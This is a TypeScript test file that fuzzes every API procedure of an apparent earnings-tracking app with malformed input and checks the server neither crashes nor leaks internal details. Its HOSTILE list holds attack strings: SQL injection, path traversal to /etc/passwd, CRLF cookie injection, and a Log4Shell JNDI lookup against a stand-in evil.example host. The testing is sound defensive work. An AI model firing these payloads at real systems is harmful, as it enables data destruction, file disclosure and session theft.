import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { arbitraryOf, type KnownIds } from '../testing/arbitrary-of.ts';
import { giveThings } from '../testing/give-things.ts';
import { type Answered, ask, type Person, signUpPerson } from '../testing/person.ts';
import { PROCEDURES, type ProcedureFacts } from '../testing/procedures-of.ts';
import { createTestApp, type TestApp } from '../testing/test-app.ts';

/** What no text can be stored with: tried everywhere. */
const UNSTORABLE: readonly unknown[] = ['a\u0000b', 'half a letter \ud800'];

/** What else people type who want to see what happens: each place gets one of them in turn. */
const HOSTILE: readonly unknown[] = [
  `'; drop table earning; --`,
  '../../../../etc/passwd',
  `" or 1=1) union values (1) --`,
  'x'.repeat(100_000),
  'x\r\nSet-Cookie: earntrack_session=stolen\r\n\r\n<script>',
  1e300,
  '${jndi:ldap://evil.example/a} {{7*7}} %s%n',
  ['in', ['a', ['list']]],
  { toString: 'x', length: 1e9 },
];
/** What an answer never holds: code, statements, places on the disk, names of what is inside. */
const INSIDE =
  /\bat \w[\w.]* \(|node:internal|node_modules|\.ts:\d|syntax error|relation "|violates|select .* from|insert into|argon2id|\/home\/|\/tmp\//i;

let server: TestApp;
let person: Person;
let things: KnownIds;
beforeAll(async () => {
  server = await createTestApp({ JWT_SECRET: 'a secret that only tests know, and long enough' });
  person = await signUpPerson(server, 'person');
  things = await giveThings(server, person);
});
afterAll(() => server.close());

type Way = readonly (string | number)[];

/** The ways to the texts within a value, one of each list. */
function textsIn(value: unknown, way: Way = []): Way[] {
  if (typeof value === 'string') return [way];
  if (typeof value !== 'object' || value === null) return [];
  const parts = Object.entries(value).slice(0, Array.isArray(value) ? 1 : undefined);
  return parts.flatMap(([name, one]) => textsIn(one, [...way, name]));
}

/** The same with something else at one place. */
function putAt(value: unknown, [name, ...rest]: Way, what: unknown): unknown {
  if (name === undefined) return what;
  const copy = structuredClone(value) as Record<string, unknown>;
  copy[name] = putAt(copy[name], rest, what);
  return copy;
}

function send({ path, isMutation }: ProcedureFacts, input: unknown): Promise<Answered> {
  const text = JSON.stringify(input);
  const { headers } = person;
  return isMutation
    ? ask(server, { method: 'POST', url: `/trpc/${path}`, headers, payload: text })
    : ask(server, { method: 'GET', url: `/trpc/${path}?input=${encodeURIComponent(text)}`, headers });
}

test('no text of any procedure, whatever stands in it, makes the server fail or tell what is inside', async () => {
  const tried = { texts: 0, refused: 0 };
  for (const procedure of PROCEDURES) {
    const [input] = fc.sample(arbitraryOf(procedure.input, things), { numRuns: 1, seed: 3 });
    for (const way of textsIn(input)) {
      tried.texts += 1;
      for (const what of [...UNSTORABLE, HOSTILE[tried.texts % HOSTILE.length]]) {
        const { status, body, headers } = await send(procedure, putAt(input, way, what));
        const asked = `${procedure.path} ${way.join('.')} ${JSON.stringify(what).slice(0, 60)}`;
        expect(status, asked).toBeLessThan(500);
        expect(body, asked).not.toMatch(INSIDE);
        expect(headers['content-type'], asked).toMatch(/^(application\/json|text\/event-stream)/);
        tried.refused += Number(status >= 400);
      }
    }
  }
  expect(tried.texts).toBeGreaterThan(100);
  expect(tried.refused).toBeGreaterThan(tried.texts);
  expect(server.lines.filter(({ level }) => level === 'error')).toEqual([]);
});
